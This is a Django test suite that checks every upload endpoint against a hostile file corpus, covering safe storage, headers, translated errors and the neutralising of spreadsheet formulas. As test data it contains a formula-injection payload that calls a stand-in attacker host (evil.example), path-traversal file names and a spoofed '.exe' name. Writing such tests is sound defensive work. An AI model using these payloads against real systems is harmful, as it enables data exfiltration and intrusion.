"""Every upload of the project, found by walking its forms, its admin and its models, receives the hostile
corpus (tests/hostile/corpus.py) as its legitimate user: never a 500; a refused file gets a form error in
the user's language and leaves no row and no file; an accepted one is stored under a random name, with a
clean original name, and is only ever served with nosniff, a sandboxing CSP and a safe type (as an
attachment, except the picture or re-checked PDF that staff ask to view).

A new upload (a form with a FileField, an admin offering a file field, a model with a FileField) that is
not in ENDPOINTS fails `test_every_upload_is_in_the_hostile_table`."""

import csv
import datetime
import io
import os
import re
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from django import forms
from django.apps import apps
from django.conf import settings
from django.contrib import admin, auth
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.test import RequestFactory
from django.urls import reverse
from django.utils import translation
from django.utils.translation.reloader import translation_file_changed

from accounts.models import Role
from accounts.tests.factories import UserFactory
from cohorts.tests.factories import ApplicationFactory, CohortFactory
from core.storage import upload_name_clean
from tests.hostile import corpus
from tests.hostile.corpus import CONTENTS, NAMES, READ, REFUSED

pytestmark = pytest.mark.django_db

PROJECT_APPS = ("accounts", "partners", "cohorts", "coaching", "mobility", "reporting", "core")


# --------------------------------------------------------------------------------------------------
# The uploads
# --------------------------------------------------------------------------------------------------


@dataclass
class Upload:
    """One upload as its legitimate user makes it: `prepare(client)` logs them in and returns the URL,
    the other fields of the form and the model whose rows hold what it stores (None: the import's
    pending file, kept under a random name until confirmed)."""

    key: str
    rule: str  # "document" or "spreadsheet"
    prepare: Callable
    file_field: str = "file"
    model: type[models.Model] | None = None
    download: Callable | None = None  # row -> URL serving it
    forms: tuple[str, ...] = ()  # dotted paths of the form classes this upload exercises
    admin: tuple[str, ...] = ()  # "app_label.Model.field" offered by the admin (or its inlines)
    accepted_status: tuple[int, ...] = (302,)
    extra: dict = field(default_factory=dict)


def _staff(client, *, superuser: bool = False):
    user = UserFactory(roles=[Role.STAFF], is_staff=superuser, is_superuser=superuser)
    client.force_login(user)
    return user


def _prepare_application_document(client):
    application = ApplicationFactory()
    client.force_login(application.entrepreneur.user)
    url = reverse("cohorts:application_step", kwargs={"pk": application.pk, "step": 5})
    return url, {"kind": "registration", "action": "upload"}, application.entrepreneur.user


def _visa_file():
    from mobility.tests.factories import VisaFileFactory
    from partners.tests.factories import EntrepreneurFactory

    return VisaFileFactory(application=ApplicationFactory(submitted=True, entrepreneur=EntrepreneurFactory()))


def _prepare_visa_document(client):
    visa_file = _visa_file()
    user = visa_file.application.entrepreneur.user
    client.force_login(user)
    return reverse("mobility:visa_document_upload", args=[visa_file.pk]), {"kind": "insurance"}, user


def _partnership(entrepreneur=None):
    from mobility import services
    from partners.tests.factories import BelgianCompanyFactory

    application = ApplicationFactory(submitted=True, **({"entrepreneur": entrepreneur} if entrepreneur else {}))
    return services.partnership_create(
        application=application,
        organisation=BelgianCompanyFactory(),
        type="export",
        started_on=datetime.date(2024, 1, 10),
        by=None,
    )


def _prepare_partnership_document(client):
    partnership = _partnership()
    user = _staff(client)
    url = reverse("mobility:partnership_document_add", args=[partnership.pk])
    return url, {"kind": "contract", "title": "Contrat"}, user


def _prepare_signed_agreement(client):
    from partners.tests.factories import EntrepreneurFactory

    entrepreneur = EntrepreneurFactory(user=UserFactory(roles=[Role.ENTREPRENEUR]))
    partnership = _partnership(entrepreneur)
    client.force_login(entrepreneur.user)
    return reverse("mobility:my_partnership", args=[partnership.pk]), {"title": "Accord"}, entrepreneur.user


def _prepare_application_import(client):
    CohortFactory()
    return reverse("cohorts:application_import"), {}, _staff(client)


def _prepare_directory_import(client):
    return reverse("mobility:directory_import"), {}, _staff(client)


def _prepare_admin_application_document(client):
    application = ApplicationFactory()
    user = _staff(client, superuser=True)
    return reverse("admin:cohorts_applicationdocument_add"), {"application": application.pk, "kind": "registration"}, user


def _prepare_admin_visa_document(client):
    visa_file = _visa_file()
    user = _staff(client, superuser=True)
    return reverse("admin:mobility_visadocument_add"), {"visa_file": visa_file.pk, "kind": "insurance", "note": ""}, user


def _prepare_admin_passport_scan(client):
    """The visa file's change page, posted back as the admin renders it, with a new passport scan."""
    visa_file = _visa_file()
    user = _staff(client, superuser=True)
    url = reverse("admin:mobility_visafile_change", args=[visa_file.pk])
    return url, admin_form_data(client.get(url)), user


def admin_form_data(response) -> dict:
    """The POST the admin change page would send unchanged: each field's current value, each inline's
    management form and rows."""
    data = {}

    def add(form):
        for name, bound in ((name, form[name]) for name in form.fields):
            if isinstance(form.fields[name], forms.FileField):
                continue
            value = bound.value()
            if value is None:
                continue
            if isinstance(value, (list, tuple)):
                data[bound.html_name] = [str(item) for item in value]
            elif isinstance(value, bool):
                if value:
                    data[bound.html_name] = "on"
            elif isinstance(value, (datetime.date, datetime.datetime)):
                data[bound.html_name] = value.isoformat()
            else:
                data[bound.html_name] = str(value)

    add(response.context["adminform"].form)
    for inline in response.context["inline_admin_formsets"]:
        formset = inline.formset
        for name, value in formset.management_form.initial.items():
            data[f"{formset.prefix}-{name}"] = str(value)
        for form in formset.forms:
            add(form)
    return data


def _application_document_download(row, *, view: bool = False) -> str:
    url = reverse("cohorts:application_document_download", kwargs={"pk": row.application_id, "document_pk": row.pk})
    return url + ("?view=1" if view else "")


ENDPOINTS: tuple[Upload, ...] = (
    Upload(
        "application-documents",
        "document",
        _prepare_application_document,
        model=apps.get_model("cohorts", "ApplicationDocument"),
        download=_application_document_download,
        forms=("cohorts.forms.apply.DocumentForm",),
    ),
    Upload(
        "visa-documents",
        "document",
        _prepare_visa_document,
        model=apps.get_model("mobility", "VisaDocument"),
        download=lambda row: reverse("mobility:visa_document_download", args=[row.pk]),
        forms=("mobility.forms.VisaDocumentForm",),
    ),
    Upload(
        "partnership-documents",
        "document",
        _prepare_partnership_document,
        model=apps.get_model("mobility", "PartnershipDocument"),
        download=lambda row: reverse("mobility:partnership_document_download", args=[row.partnership_id, row.pk]),
        forms=("mobility.forms_partnerships.DocumentForm",),
    ),
    Upload(
        "signed-agreement",
        "document",
        _prepare_signed_agreement,
        model=apps.get_model("mobility", "PartnershipDocument"),
        download=lambda row: reverse("mobility:partnership_document_download", args=[row.partnership_id, row.pk]),
        forms=("mobility.forms_partnerships.AgreementUploadForm",),
    ),
    Upload(
        "application-import",
        "spreadsheet",
        _prepare_application_import,
        forms=("cohorts.forms.staff.ApplicationImportForm",),
        accepted_status=(200, 302),
    ),
    Upload(
        "directory-import",
        "spreadsheet",
        _prepare_directory_import,
        forms=("mobility.forms_directory.CompanyImportForm",),
        accepted_status=(200, 302),
    ),
    Upload(
        "admin-application-document",
        "document",
        _prepare_admin_application_document,
        model=apps.get_model("cohorts", "ApplicationDocument"),
        download=_application_document_download,
        forms=("cohorts.admin.ApplicationDocumentForm",),
        admin=("cohorts.ApplicationDocument.file",),
    ),
    Upload(
        "admin-visa-document",
        "document",
        _prepare_admin_visa_document,
        model=apps.get_model("mobility", "VisaDocument"),
        download=lambda row: reverse("mobility:visa_document_download", args=[row.pk]),
        forms=("mobility.admin.VisaDocumentForm",),
        admin=("mobility.VisaDocument.file",),
    ),
    Upload(
        "admin-passport-scan",
        "document",
        _prepare_admin_passport_scan,
        file_field="passport_scan",
        model=apps.get_model("mobility", "VisaFile"),
        forms=("mobility.admin.VisaFileForm",),
        admin=("mobility.VisaFile.passport_scan",),
    ),
)

#: Model file fields no user uploads to: what the application writes itself, or a copy of a checked upload.
WRITTEN_BY_THE_APPLICATION = {
    "reporting.ReportJob.file": "the PDF report the worker renders",
    "mobility.PersonalDataExport.file": "the zip of a person's data, built by the worker",
    "cohorts.ApplicationImport.file": "the spreadsheet checked by application-import, copied when confirmed",
    "partners.CompanyImport.file": "the spreadsheet checked by directory-import, copied when confirmed",
}


# --------------------------------------------------------------------------------------------------
# Discovery: a new upload without an entry fails
# --------------------------------------------------------------------------------------------------


def _subclasses(cls):
    for sub in cls.__subclasses__():
        yield sub
        yield from _subclasses(sub)


def project_upload_forms() -> set[str]:
    """Every form class of the project that declares a file field (the URL configuration and the admin
    are loaded, so every form module has been imported)."""
    from django.urls import get_resolver

    get_resolver().url_patterns  # noqa: B018 - imports every view module, hence every form module
    found = set()
    for form_class in _subclasses(forms.BaseForm):
        if not form_class.__module__.startswith(PROJECT_APPS) or form_class.__name__.startswith(("VisaFileViewForm",)):
            continue
        if any(isinstance(f, forms.FileField) for f in getattr(form_class, "base_fields", {}).values()):
            found.add(f"{form_class.__module__}.{form_class.__qualname__}")
    return found


def admin_upload_fields() -> dict[str, type]:
    """`app.Model.field` -> form class, for every file field the admin (a model admin or an inline) offers
    to a superuser."""
    request = RequestFactory().get("/admin/")
    request.user = UserFactory(is_staff=True, is_superuser=True)
    found = {}
    for model, model_admin in admin.site._registry.items():
        candidates = [(model, model_admin.get_form(request, obj=None))]
        for inline in model_admin.get_inline_instances(request, obj=None):
            candidates.append((inline.model, inline.get_formset(request, obj=None).form))
        for owner, form_class in candidates:
            for name, form_field in form_class.base_fields.items():
                if isinstance(form_field, forms.FileField):
                    found[f"{owner._meta.label}.{name}"] = form_class
    return found


def test_every_upload_is_in_the_hostile_table():
    covered_forms = {path for endpoint in ENDPOINTS for path in endpoint.forms}
    assert project_upload_forms() - covered_forms == set(), "upload forms without hostile coverage: add them to ENDPOINTS"

    by_admin = {path: endpoint for endpoint in ENDPOINTS for path in endpoint.admin}
    for path, form_class in admin_upload_fields().items():
        assert path in by_admin, f"the admin offers {path} without hostile coverage: add it to ENDPOINTS"
        tested = {f"{cls.__module__}.{cls.__qualname__}" for cls in form_class.__mro__}
        assert tested & set(by_admin[path].forms), f"the admin's form for {path} is not the one tested"

    uploaded = {f"{e.model._meta.label}.{e.file_field}" for e in ENDPOINTS if e.model is not None}
    for model in apps.get_models():
        for model_field in model._meta.fields:
            if isinstance(model_field, models.FileField):
                label = f"{model._meta.label}.{model_field.name}"
                assert label in uploaded or label in WRITTEN_BY_THE_APPLICATION, f"{label}: how does it get its file?"


# --------------------------------------------------------------------------------------------------
# Helpers: what is stored, what is shown
# --------------------------------------------------------------------------------------------------


def _files(root: str) -> set[str]:
    return {str(path.relative_to(root)) for path in Path(root).rglob("*") if path.is_file()}


def _storage_roots() -> list[str]:
    return [settings.STORAGES["private"]["OPTIONS"]["location"], settings.STORAGES["default"]["OPTIONS"]["location"]]


def _stored(endpoint: Upload) -> set[tuple]:
    if endpoint.model is None:
        return set()
    return set(endpoint.model.objects.exclude(**{endpoint.file_field: ""}).values_list("pk", endpoint.file_field))


def _form_errors(response) -> list[str]:
    """The error messages of every bound form on the page (site forms, the admin's form and inlines)."""
    errors: list[str] = []
    context = response.context
    if context is None:
        return errors
    seen = set()
    for subcontext in context:
        for value in subcontext.flatten().values():
            candidates = [value]
            if hasattr(value, "form") and isinstance(getattr(value, "form", None), forms.BaseForm):
                candidates.append(value.form)  # AdminForm
            for candidate in candidates:
                if isinstance(candidate, forms.BaseForm) and candidate.is_bound and id(candidate) not in seen:
                    seen.add(id(candidate))
                    errors += [message for messages in candidate.errors.values() for message in messages]
    return errors


def _patterns(texts) -> list[re.Pattern]:
    """A catalogue message as a pattern: its placeholders (%(name)s, %(size).1f, %s) match anything."""
    placeholder = re.compile(r"%(\([^)]*\))?[-#0 +]*\d*(\.\d+)?[sdfi]")
    result = []
    for text in texts:
        parts = placeholder.split(text)
        literal = [part for index, part in enumerate(parts) if index % 3 == 0]
        if len("".join(literal).strip()) < 12:
            continue  # "%(name)s", "Oui"...: too short to tell a language
        literal = [re.escape(part) for part in literal]
        result.append(re.compile("^" + ".+?".join(literal) + "$", re.S))
    return result


@pytest.fixture(scope="module")
def other_language_messages() -> dict[str, list[re.Pattern]]:
    """Per language, the project's messages in the *other* language (French sources that have an English
    text, and those English texts): an error matching one of them was not translated for the reader."""
    from scripts.compile_translations import compile_all

    compile_all()
    translation_file_changed(sender=None, file_path=Path("django.mo"))
    catalog = translation.trans_real.translation("en")._catalog
    pairs = [(msgid, msgstr) for msgid, msgstr in catalog.items() if isinstance(msgid, str) and msgid != msgstr and msgstr]
    return {"en": _patterns(msgid for msgid, _msgstr in pairs), "fr": _patterns(msgstr for _msgid, msgstr in pairs)}


def _in_other_language(message: str, language: str, patterns) -> bool:
    return any(pattern.match(message) for pattern in patterns[language])


def _served_safely(client, url: str, *, inline_allowed: bool) -> list[str]:
    response = client.get(url)
    problems = []
    if response.status_code != 200:
        return [f"{url}: {response.status_code}"]
    content = b"".join(response.streaming_content) if response.streaming else response.content
    disposition = response.get("Content-Disposition", "")
    if not disposition.startswith("attachment") and not inline_allowed:
        problems.append(f"{url}: served inline ({disposition!r})")
    if response.get("X-Content-Type-Options") != "nosniff":
        problems.append(f"{url}: no nosniff")
    if "sandbox" not in response.get("Content-Security-Policy", ""):
        problems.append(f"{url}: no sandboxing CSP")
    if response["Content-Type"].split(";")[0] not in ("application/pdf", "image/png", "image/jpeg"):
        problems.append(f"{url}: served as {response['Content-Type']}")
    if b"<script" in content.lower() or b"<html" in content.lower():
        problems.append(f"{url}: the HTML payload is served")
    match = re.search(r'filename="([^"]*)"', disposition)
    name = match.group(1) if match else ""
    if not name.isascii() or any(bad in name for bad in ("/", "\\", "..", "\x00")) or len(name) > 120:
        problems.append(f"{url}: unsafe download name {name!r}")
    return problems


def _post(client, endpoint: Upload, url: str, data: dict, upload, language: str):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
    return client.post(url, {**data, endpoint.file_field: upload})


# --------------------------------------------------------------------------------------------------
# The corpus through every upload
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("endpoint", ENDPOINTS, ids=lambda endpoint: endpoint.key)
def test_hostile_contents_never_crash_nor_stay_nor_come_back_inline(client, endpoint, other_language_messages):
    url, data, _user = endpoint.prepare(client)
    problems = []
    for number, item in enumerate(CONTENTS):
        language = ("fr", "en")[number % 2]
        expected = getattr(item, endpoint.rule)
        files_before = [_files(root) for root in _storage_roots()]
        rows_before = _stored(endpoint)
        response = _post(client, endpoint, url, data, SimpleUploadedFile(item.name, item.content(), item.content_type), language)
        where = f"{endpoint.key} / {item.key} ({language})"
        if response.status_code >= 500:
            problems.append(f"{where}: {response.status_code}")
            continue
        new_files = [_files(root) - before for root, before in zip(_storage_roots(), files_before, strict=True)]
        if new_files[1]:
            problems.append(f"{where}: a file landed in the public media folder: {new_files[1]}")
        if expected == REFUSED:
            errors = _form_errors(response)
            if response.status_code in endpoint.accepted_status and response.status_code != 200 or not errors:
                problems.append(f"{where}: not refused with a form error ({response.status_code})")
            untranslated = [error for error in errors if _in_other_language(str(error), language, other_language_messages)]
            if untranslated:
                problems.append(f"{where}: error not in {language}: {untranslated}")
            if _stored(endpoint) != rows_before or new_files[0]:
                problems.append(f"{where}: refused but stored {new_files[0]}")
            continue
        if expected == READ and _form_errors(response):
            if _stored(endpoint) != rows_before or new_files[0]:
                problems.append(f"{where}: refused but stored {new_files[0]}")
            continue
        if response.status_code not in endpoint.accepted_status or (response.status_code == 200 and _form_errors(response)):
            problems.append(f"{where}: refused ({response.status_code}: {_form_errors(response)})")
            continue
        problems += _check_accepted(client, endpoint, rows_before, new_files[0], where)
    assert problems == [], "\n".join(problems)


def _check_accepted(client, endpoint: Upload, rows_before: set, new_files: set, where: str) -> list[str]:
    problems = []
    for name in new_files:
        if not re.fullmatch(r"[a-z]+(/[a-z]+)?(/\d+)?/[0-9a-f]{32}", name):
            problems.append(f"{where}: stored under a name that is not random: {name!r}")
    if endpoint.model is None:
        return problems
    changed = _stored(endpoint) - rows_before
    if len(changed) != 1:
        return [*problems, f"{where}: {len(changed)} rows stored"]
    row = endpoint.model.objects.get(pk=next(iter(changed))[0])
    with getattr(row, endpoint.file_field).open("rb") as handle:
        stored = handle.read().lower()
    if b"<script" in stored or b"<html" in stored:
        problems.append(f"{where}: the HTML payload is stored")
    if endpoint.download is not None:
        problems += _served_safely(client, endpoint.download(row), inline_allowed=False)
        if endpoint.download is _application_document_download:
            uploader = auth.get_user(client)
            _staff(client)  # staff may ask to view a document in the browser
            problems += _served_safely(client, endpoint.download(row, view=True), inline_allowed=True)
            client.force_login(uploader)
    return problems


def _valid_file(endpoint: Upload) -> bytes:
    if endpoint.rule == "document":
        return corpus.pdf_plain()
    return corpus.csv_formula_injection()


@pytest.mark.parametrize("endpoint", ENDPOINTS, ids=lambda endpoint: endpoint.key)
def test_hostile_names_are_never_used_on_disk_nor_sent_back_raw(client, endpoint):
    problems = []
    url, data, _user = endpoint.prepare(client)
    for name in NAMES:
        rows_before = _stored(endpoint)
        files_before = _files(_storage_roots()[0])
        response = _post(client, endpoint, url, data, SimpleUploadedFile(name, _valid_file(endpoint), "application/pdf"), "fr")
        where = f"{endpoint.key} / {name[:40]!r}"
        if response.status_code >= 500:
            problems.append(f"{where}: {response.status_code}")
            continue
        page = response.content.decode(errors="replace")
        if "<img src=x" in page:
            problems.append(f"{where}: the name is sent back unescaped")
        if response.status_code not in endpoint.accepted_status:
            # Django drops a name that is only "..", "." or a path separator: "no file" is a fine answer.
            if not _form_errors(response):
                problems.append(f"{where}: refused without a message ({response.status_code})")
            continue
        problems += _check_accepted(client, endpoint, rows_before, _files(_storage_roots()[0]) - files_before, where)
        if endpoint.model is not None and "original_name" in {f.name for f in endpoint.model._meta.fields}:
            row = endpoint.model.objects.exclude(**{endpoint.file_field: ""}).order_by("-pk").first()
            original = row.original_name
            if (
                any(unicodedata.category(char) in ("Cc", "Cf") for char in original)
                or "/" in original
                or "\\" in original
                or len(original) > 255
                or original != unicodedata.normalize("NFC", original)
            ):
                problems.append(f"{where}: original name kept as {original!r}")
    assert problems == [], "\n".join(problems)


def test_the_name_cleaner_keeps_a_readable_label_and_nothing_else():
    assert upload_name_clean("../../etc/passwd") == "passwd"
    assert upload_name_clean("C:\\Windows\\System32\\cmd.exe") == "cmd.exe"
    assert upload_name_clean("facture\u202efdp.exe") == "facturefdp.exe"
    assert upload_name_clean("a\x00b\x1b.pdf") == "ab.pdf"
    assert upload_name_clean("e\u0301te\u0301.pdf") == "\u00e9t\u00e9.pdf"
    assert upload_name_clean("CON") == "document-CON"
    assert upload_name_clean("com1.txt") == "document-com1.txt"
    assert upload_name_clean("..") == upload_name_clean("") == upload_name_clean(None) == "document"
    # A name that is only an extension keeps it: the import's worker picks the reader by it.
    assert upload_name_clean(".xlsx") == upload_name_clean("..xlsx") == "document.xlsx"
    long = upload_name_clean("x" * 1000 + ".pdf")
    assert len(long) == 255 and long.endswith(".pdf")


# --------------------------------------------------------------------------------------------------
# Spreadsheets: a formula typed in an imported file never runs in an export
# --------------------------------------------------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1;"Voir")'


def test_a_formula_imported_in_the_directory_is_neutralised_in_its_exports(client, django_capture_on_commit_callbacks):
    import openpyxl

    from partners.models import Organisation

    _staff(client)
    header = "Nom de l'entreprise;Numéro d'entreprise;Région;Langues;Contact : nom;Contact : e-mail"
    row = f'"{FORMULA_NAME.replace(chr(34), chr(34) * 2)}";0200.000.043;Bruxelles;fr;@SUM(1+1);ann@bonne.be'
    preview = client.post(
        reverse("mobility:directory_import"),
        {"file": SimpleUploadedFile("entreprises.csv", f"{header}\r\n{row}\r\n".encode(), "text/csv")},
    )
    token = preview.context["confirm_form"].initial["token"]
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("mobility:directory_import"), {"token": token})
    assert Organisation.objects.filter(name=FORMULA_NAME).exists()  # kept as typed: it is the company's name

    as_csv = client.get(reverse("mobility:directory_export"), {"format": "csv"})
    cells = [cell for line in csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))) for cell in line]
    as_xlsx = client.get(reverse("mobility:directory_export"), {"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx.content)).active
    xlsx_cells = [cell.value for line in sheet.iter_rows() for cell in line]
    for exported in (cells, xlsx_cells):
        assert "'" + FORMULA_NAME in exported and FORMULA_NAME not in exported
        assert not any(isinstance(cell, str) and cell[:1] and cell[:1] in "=+-@" for cell in exported)
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)


def test_the_fifty_megabytes_are_generated_in_a_temporary_file_not_in_the_repository():
    handle = corpus.fifty_megabytes()
    handle.seek(0, os.SEEK_END)
    assert handle.tell() > corpus.FIFTY_MB
    assert not list(Path(__file__).parent.glob("*.bin")) and not list(Path(__file__).parent.glob("*.pdf"))
